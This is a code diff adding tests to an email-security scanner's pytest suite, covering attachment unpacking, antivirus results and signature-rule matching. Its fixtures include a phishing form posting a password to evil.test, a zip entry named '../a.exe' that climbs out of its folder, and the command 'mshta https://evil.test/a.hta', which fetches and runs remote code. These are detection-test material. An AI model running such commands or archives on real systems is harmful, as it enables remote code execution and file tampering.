@@ -1,9 +1,15 @@
+import base64
+
 import pytest
 
+import hostile_files as make
 from bartizan.base.clock import SystemClock
+from bartizan.forensics.signatures.rules import load_rules
+from bartizan.forensics.unpacking import examine
 from bartizan.mail.authentication.dns.resolver import OfflineResolver
+from bartizan.mail.errors import ScannerError
 from bartizan.mail.evidence import Organisation
-from bartizan.mail.pipeline import Pipeline
+from bartizan.mail.pipeline import Pipeline, Signatures
 from bartizan.mail.policies import PolicySettings
 from bartizan.mail.verdict import Disposition, Envelope
 
@@ -15,6 +21,7 @@ PHISH = (
     b"From: IT <it@examp1e.com>\r\nSubject: Password\r\nContent-Type: text/html\r\n\r\n"
     b'<form action="https://evil.test/"><input type=password></form>\r\n'
 )
+HONEST = b"From: Ann <ann@b.test>\r\nTo: reader@example.com\r\nSubject: Hi\r\n\r\nHi\r\n"
 
 
 @pytest.fixture
@@ -51,3 +58,75 @@ async def test_what_could_not_be_asked_is_never_a_pass():
 
 async def test_without_anybody_to_ask_nothing_is_claimed(pipeline):
     assert (await pipeline.judge(PHISH, ENVELOPE)).authentication is None
+
+
+class Here:
+    """Examines in this process."""
+
+    def __init__(self):
+        self.is_closed = False
+
+    def examine(self, content, name, passwords, seconds):
+        return examine(content, name, passwords=passwords)
+
+    def close(self):
+        self.is_closed = True
+
+
+async def test_attachments_are_examined_and_their_defects_told():
+    archive = base64.encodebytes(make.zip_of({"../a.exe": b"MZ"}))
+    head = b"From: a@b.test\r\nContent-Type: application/zip; name=a.zip\r\n"
+    raw = head + b"Content-Transfer-Encoding: base64\r\n\r\n" + archive
+    here = Here()
+    examining = Pipeline(Organisation(), PolicySettings(), None, SystemClock(), examiner=here)
+    found = await examining.examine(raw, ENVELOPE)
+    assert [one.type for one in found.facts.attachments[0].examination.files] == ["zip", "pe"]
+    assert [(one.code, one.sentence) for one in found.verdict.defects] == [
+        ("path-traversal", "a.zip/../a.exe: The name '../a.exe' climbs out of its folder.")
+    ]
+    examining.close()
+    assert here.is_closed
+
+
+async def test_a_message_with_an_envelope_was_received_now(pipeline):
+    raw = b"From: a@b.test\r\nDate: Sat, 1 Jan 2000 10:00:00 +0000\r\n\r\nHi\r\n"
+    analysis = await pipeline.examine(raw, ENVELOPE)
+    assert analysis.facts.received_at is not None
+    assert "date_far_off" in {reason.id for reason in analysis.verdict.reasons}
+    assert pipeline.analyse(raw, None, None).facts.received_at is None
+
+
+class Says:
+    engine = "clamav"
+
+    def __init__(self, *names: str, fails: bool = False):
+        self.names, self.fails = names, fails
+
+    async def scan(self, content: bytes) -> tuple[str, ...]:
+        if self.fails:
+            raise ScannerError("It is down.")
+        return self.names
+
+
+def with_scanner(scanner, *, rules=None) -> Pipeline:
+    signatures = Signatures(rules, (scanner,), 1)
+    return Pipeline(Organisation(), PolicySettings(), None, SystemClock(), signatures=signatures)
+
+
+async def test_what_a_scanner_knows_holds_a_message():
+    verdict = await with_scanner(Says("Win.Test.A-1")).judge(HONEST, ENVELOPE)
+    assert verdict.disposition is Disposition.HOLD
+    assert verdict.reasons[0].id == "signature_match"
+    assert "Win.Test.A-1" in verdict.reasons[0].sentence
+
+
+async def test_a_scanner_that_is_down_is_a_defect_and_holds_nothing():
+    verdict = await with_scanner(Says(fails=True)).judge(HONEST, ENVELOPE)
+    assert verdict.disposition is Disposition.DELIVER
+    assert [defect.code for defect in verdict.defects] == ["scanner-unavailable"]
+
+
+async def test_our_own_rules_are_matched_too():
+    raw = HONEST.replace(b"Hi", b"mshta https://evil.test/a.hta")
+    analysis = await with_scanner(Says(), rules=load_rules()).examine(raw, ENVELOPE)
+    assert [one.name for one in analysis.facts.signatures] == ["mshta_chain"]
